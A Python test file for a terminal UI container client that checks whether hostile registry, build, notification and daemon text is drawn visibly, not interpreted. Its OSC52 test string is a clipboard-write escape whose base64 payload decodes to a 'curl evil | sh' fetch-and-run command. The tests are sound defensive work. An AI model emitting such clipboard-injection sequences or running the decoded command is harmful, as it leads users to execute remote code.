"""Hostile text from a registry, a build and a notification, with the fake service.

Each piece of outside text is drawn with its control characters visible and its brackets as
written; the real-daemon, real-pty counterpart is tests/ui/test_hostile_pty.py.
"""

from __future__ import annotations

from typing import Any

from textual.widgets import DataTable

from tests.ui.fake import FakeService, make_app
from tests.ui.pilot import ready, wait_for
from tui.service.build import BuildError, BuildOutput, BuildStep
from tui.service.registry_catalog import CatalogHits, SearchResult
from tui.service.transfer_progress import LayerProgress, Overall, TransferEvent
from tui.widgets.build_log import BuildLogModel
from tui.widgets.progress import Transfer, render_transfer

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
HOSTILE = f"{OSC52}[/x] [bold]b [link=http://e.x]l \x9b31m \u202e"


def no_controls(text: str) -> bool:
    return not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in text)


class HostileRegistry(FakeService):
    """A registry whose search results and catalog hold escape sequences and markup."""

    def search(self, term: str, **_: Any) -> list[SearchResult]:
        return [SearchResult(f"evil{OSC52}", "[/x] [bold]b [link=x]l \x9b31m\u202e", 3, False)]

    def catalog(self, host: str, prefix: str, **_: Any) -> CatalogHits:
        return CatalogHits([], 0)


async def test_search_results_are_shown_visibly_and_literally() -> None:
    from tui.screens.search import SearchScreen

    async with make_app(HostileRegistry()).run_test(size=(120, 30)) as pilot:
        await ready(pilot)
        await pilot.press("s")
        await wait_for(pilot, lambda: isinstance(pilot.app.screen, SearchScreen), "search")
        await pilot.press(*"evil", "enter")
        table = pilot.app.screen.query_one("#search-results", DataTable)
        await wait_for(pilot, lambda: table.row_count == 1, "the result")
        await pilot.pause(0.1)
        drawn = "".join(table.render_line(y).text for y in range(table.size.height))
        assert no_controls(drawn)
        assert "^[]52;c;" in drawn
        assert "[/x] [bold]b [link=x]l" in drawn
        assert "\\x9b31m" in drawn and "<U+202E>" in drawn


async def test_notifications_show_controls_and_brackets() -> None:
    async with make_app(FakeService()).run_test(size=(100, 30), notifications=True) as pilot:
        await ready(pilot)
        pilot.app.notify(f"registry said: {HOSTILE}", title=f"Pull {OSC52}[/x]", severity="error")
        await pilot.pause(0.3)
        from textual.widgets._toast import Toast

        toast = pilot.app.screen.query_one(Toast)
        drawn = str(toast.render())
        assert no_controls(drawn)
        assert "^[]52;c;" in drawn and "[/x]" in drawn and "[link=http://e.x]l" in drawn


def test_transfer_statuses_and_errors_are_made_visible() -> None:
    layer = LayerProgress(id="abc123", status=f"Downloading{OSC52}")
    event = TransferEvent(
        layer_id="abc123",
        status=f"Pulling from {OSC52}",
        layers=(layer,),
        overall=Overall(0, 1, 0, 0, 0.0, f"Status {OSC52}"),
    )
    transfer = Transfer(id=1, kind="pull", reference="demo/app:1.0", started=0.0)
    transfer.apply(event)
    transfer.error = f"manifest unknown {OSC52}"
    text = render_transfer(transfer, 100, 1.0).plain
    assert no_controls(text)
    assert "^[]52;c;" in text


def test_build_log_lines_steps_and_errors_are_made_visible() -> None:
    model = BuildLogModel(0.0)
    model.apply(
        [
            (0.0, BuildStep(1, 2, f"RUN echo {OSC52}")),
            (0.1, BuildOutput((f"\x1b[91m{OSC52}\x1b[0m", "50%\r100%", "tab\there"))),
            (0.2, BuildError(f"failed {OSC52}\nsecond line")),
        ]
    )
    lines = [line for step in model.steps for line in step.lines]
    texts = [step.instruction for step in model.steps] + lines + list(model.text().splitlines())
    assert all(no_controls(t.replace("\t", "")) for t in texts)
    assert "^[]52;c;Y3VybCBldmlsIHwgc2g=^G" in lines
    assert "100%" in lines and "tab\there" in lines
    assert "^[]52;c;" in model.text()


async def test_daemon_down_reason_quoting_the_far_end_is_made_visible() -> None:
    from textual.widgets import Static

    from tui.screens.daemon_down import DaemonDownScreen
    from tui.service.errors import DaemonUnreachable

    error = DaemonUnreachable("tcp://evil:2376", f"certificate for {OSC52}[/x] is not trusted")
    async with make_app(FakeService()).run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        pilot.app.push_screen(DaemonDownScreen("tcp://evil:2376", error))
        await wait_for(pilot, lambda: bool(pilot.app.screen.query("#down-reason")), "the screen")
        drawn = str(pilot.app.screen.query_one("#down-reason", Static).render())
        assert no_controls(drawn)
        assert "^[]52;c;" in drawn and "[/x]" in drawn


class HostileContainers(FakeService):
    """A daemon whose containers' image and status fields hold escape sequences and markup."""

    def list_containers(self, *, sizes: bool = True, image_id: str | None = None) -> Any:
        from tests.ui.fake import EPOCH
        from tui.service.models import Container

        return [
            Container(
                id="c0ffee" * 10 + "abcd",
                name="web-1",
                image=f"[/x]evil{OSC52}",
                image_id=self.images[0].id,
                command="sh",
                state="exited",
                status=f"Exited (0) [bold]{OSC52}",
                created=EPOCH,
                size_rw=0,
                size_root_fs=0,
            )
        ]


async def test_containers_table_shows_daemon_text_visibly_and_literally() -> None:
    from tui.screens.containers import ContainersScreen

    async with make_app(HostileContainers()).run_test(size=(120, 30)) as pilot:
        await ready(pilot)
        pilot.app.push_screen(ContainersScreen())
        await wait_for(pilot, lambda: bool(pilot.app.screen.query("#containers-table")), "screen")
        table = pilot.app.screen.query_one("#containers-table", DataTable)
        await wait_for(pilot, lambda: table.row_count == 1, "the container")
        await pilot.pause(0.1)
        drawn = "".join(table.render_line(y).text for y in range(table.size.height))
        assert no_controls(drawn)
        assert "[/x]evil^[]52;c;" in drawn and "Exited (0) [bold]^[" in drawn
